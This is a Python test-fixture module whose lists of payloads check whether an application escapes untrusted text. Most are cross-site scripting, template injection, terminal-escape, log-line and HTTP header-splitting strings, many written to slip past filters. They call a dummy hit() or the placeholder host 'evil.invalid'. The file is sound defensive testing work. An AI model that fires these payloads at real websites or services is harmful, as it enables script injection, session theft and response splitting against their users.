# SPDX-License-Identifier: Apache-2.0
r"""Payloads that become markup, a script, a request or a header where something does not escape them.

Each that comes to life calls hit() or fetches HOST, or adds a header "X-Injected".
"""

#: Nobody is there; a request to it is a finding.
HOST = "evil.invalid"

_TAGS = [
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT >",
    "<script src=//evil.invalid/a.js></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script\x0c>hit()</script>",
    "<script>hit()//",
    "<<script>hit();//<</script>",
    "<img src=x onerror=hit()>",
    "<img/src=`x`/onerror=hit()>",
    "<img src=//evil.invalid/a.png>",
    "<image href=//evil.invalid/a.png onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=//evil.invalid/a></object><embed src=//evil.invalid/b>",
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<link rel=prefetch href=//evil.invalid/b>",
    "<style>@import '//evil.invalid/a.css';body{background:url(//evil.invalid/b)}</style>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<form action=//evil.invalid/><input autofocus onfocus=hit()></form>",
    "<button formaction=javascript:hit() autofocus>a</button>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video><audio src=x onerror=hit()>",
    "<body onload=hit()><marquee onstart=hit()>",
    "<a href=javascript:hit() autofocus onfocus=hit()>a</a>",
    "<x style=animation-name:x onanimationstart=hit() tabindex=1 onfocus=hit() autofocus>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>",
    "<portal src=//evil.invalid/>",
    "<dialog open oncancel=hit()><slot onslotchange=hit()></dialog>",
    "<bdo dir=rtl><plaintext>",
]
_OUT_OF_CONTEXT = [
    "</title><script>hit()</script>",
    "</textarea></li></ol></main></body></html><script>hit()</script>",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script><![CDATA[",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    '" autofocus onfocus=hit() x="',
    "' onmouseover=hit() style=position:fixed;inset:0 x='",
    "` onfocus=hit() autofocus x=`",
    " onfocus=hit() autofocus tabindex=1 ",
    '"}]}</script><script>hit()</script>',
    '\\"}],"end":true,"href":"javascript:hit()',
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "';hit();//",
    "${hit()} #{hit()} {{hit()}} {% hit() %} <%= hit() %> {{constructor.constructor('hit()')()}}",
    "{title} {0} {0.__class__.__init__.__globals__} %s %(path)s $name",
    "&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62; &LT;svg onload=hit()&GT;",
    "&quot; onfocus=hit() autofocus &apos;",
]
_LINKS = [
    "javascript:hit()",
    "jAvAsCrIpT:hit() java\tscript:hit() java\x01script:hit() &#106;avascript:hit()",
    'http://evil.invalid/"onmouseover=hit()//',
    "http://evil.invalid/'onfocus=hit()autofocus'<img src=x onerror=hit()>",
    "http://evil.invalid/><script>hit()</script>",
    "http://javascript:hit()@evil.invalid:80/%22%3E%3Cscript%3Ehit()%3C/script%3E",
    'https://evil.invalid/\x1b[31m"><img src=x onerror=hit()>\x1b[0m',
    "data:text/html,<script>hit()</script> vbscript:hit() blob:hit() file:///etc/passwd",
    'req-aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"><img src=x onerror=hit()>',
]
_TERMINAL = [
    "\x1b[31m<img src=x onerror=hit()>\x1b[0m",
    '\x1b[1;31"onfocus=hit() autofocus"m',
    "\x1b[38;5;<script>hit()</script>m",
    "\x1b]8;;javascript:hit()\x1b\\click\x1b]8;;\x1b\\",
    '\x1b]8;;http://evil.invalid/"onfocus=hit()\x07<b>\x1b]8;;\x07',
    "\x1b]0;<script>hit()</script>\x07 \x1b]52;c;aGl0KCk=\x07",
    "\x1bP<script>hit()</script>\x1b\\ \x9b31m<svg onload=hit()>",
    "<scr\x1b[0mipt>hit()</scr\x1b[0mipt>",
    "\x08\x08<img\x08 src=x onerror=hit()>\x7f",
]
_LOG_LINES = [
    '2024-03-28 12:20:43.570 1 ERROR <script>hit()</script> [-] "><svg onload=hit()>',
    '2024-03-28T12:20:43"><img/src=x/onerror=hit()>.570Z ERROR a',
    '{"time": "2024-03-28T12:20:43Z", "level": "<img src=x onerror=hit()>", "msg": "</script>"}',
    'level=error"><script>hit()</script> time=2024-03-28T12:20:43Z msg="<svg onload=hit()>"',
    "<13>Mar 28 12:20:43 <script>hit()</script> a[1]: <b onfocus=hit() autofocus tabindex=1>",
]
_BYTES = [
    b"\xff\xfe<script>hit()</script>",
    b"\xc0\xbcscript\xc0\xbehit()\xc0\xbc/script\xc0\xbe",
    b"\xe0\x80\xbcimg src=x onerror=hit()\xe0\x80\xbe",
    b"\xf0\x80\x80\xbcsvg onload=hit()\xf0\x80\x80\xbe",
    b"<img src=x onerror=hit()\xe2\x80>",
    b"\xed\xa0\x80<script>hit()</script>\xed\xb0\x80",
    b"+ADw-script+AD4-hit()+ADw-/script+AD4-",
    b"\x1b$B<script>hit()</script>\x1b(B",
    b"\xef\xbb\xbf<!doctype html><script>hit()</script>",
    b"GIF89a/*<svg/onload=hit()>*/=1;hit()",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e \u202e<script>hit()</script>".encode(),
    "\u2028hit()\u2029<img src=x onerror=hit()>\u0085".encode(),
]
_HEADERS = [
    "a\r\nX-Injected: yes",
    "a\r\n\r\n<script>hit()</script>",
    "a\nX-Injected: yes\nContent-Type: text/html\n\n<script>hit()</script>",
    "a\rX-Injected: yes",
    "a\u560d\u560aX-Injected: yes",
    "a\"; filename*=UTF-8''b.html; x=\"",
    "a>; rel=preload; as=script, <//evil.invalid/a.js>; rel=preload; as=script, <b",
    "%0d%0aX-Injected:%20yes%250d%250a",
]
TEXTS = [*_TAGS, *_OUT_OF_CONTEXT, *_LINKS, *_TERMINAL, *_LOG_LINES, *_HEADERS]
PAYLOADS = [*[text.encode() for text in TEXTS], *_BYTES]
